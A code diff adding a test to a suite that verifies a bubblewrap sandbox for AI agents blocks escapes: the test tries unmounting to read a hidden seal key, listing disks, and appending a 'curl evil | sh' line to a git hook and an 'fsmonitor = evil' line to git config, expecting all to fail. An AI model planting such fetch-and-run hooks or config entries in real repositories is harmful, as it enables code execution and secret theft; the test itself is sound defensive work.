@@ -96,6 +96,24 @@ describe.skipIf(!bwrap)("the sandbox an agent runs in (real bubblewrap)", () => 
     expect(seen).toEqual([`R ${paths.mainFile}`, `X ${paths.otherSession}`, `X ${paths.sealKey}`, `R ${paths.prompt}`, `X ${paths.otherWork}`, `W ${inPlace.workDir}`]);
   });
 
+  test("no way back to what is hidden: unmounting fails (no capabilities, even run by root), no disks in /dev, the repository's hooks and config read-only", async () => {
+    const { plan, paths, root } = layout();
+    const hook = join(root, "proj/.git/hooks/pre-commit");
+    mkdirSync(dirname(hook), { recursive: true });
+    writeFileSync(hook, "#!/bin/sh\n");
+    writeFileSync(join(root, "proj/.git/config"), "[core]\n");
+    for (const p of [plan, { ...plan, workDir: plan.projectDir }]) {
+      const script = [
+        `umount -l '${join(plan.sessionDir, ".runtime")}' 2>/dev/null; cat '${paths.sealKey}' >/dev/null 2>&1 && echo "seal key read" || echo "seal key hidden"`,
+        `ls /dev | grep -E '^(sd|vd|nvme|xvd|loop)' >/dev/null && echo "disks" || echo "no disks"`,
+        `echo 'curl evil | sh' >> '${hook}' 2>/dev/null && echo "hook written" || echo "hook read-only"`,
+        `echo '[core] fsmonitor = evil' >> '${join(root, "proj/.git/config")}' 2>/dev/null && echo "config written" || echo "config read-only"`,
+      ].join("\n");
+      const proc = Bun.spawn(bwrapArgv(p, ["sh", "-c", script]), { stdout: "pipe", stderr: "pipe" });
+      expect((await new Response(proc.stdout).text()).trim().split("\n")).toEqual(["seal key hidden", "no disks", "hook read-only", "config read-only"]);
+    }
+  });
+
   test("its own pid namespace: another agent's process (and its environment) is not there to read", async () => {
     const { plan } = layout();
     const other = Bun.spawn(["sleep", "30"], { env: { AGENTMUX_MCP_TOKEN: "b".repeat(64) } });
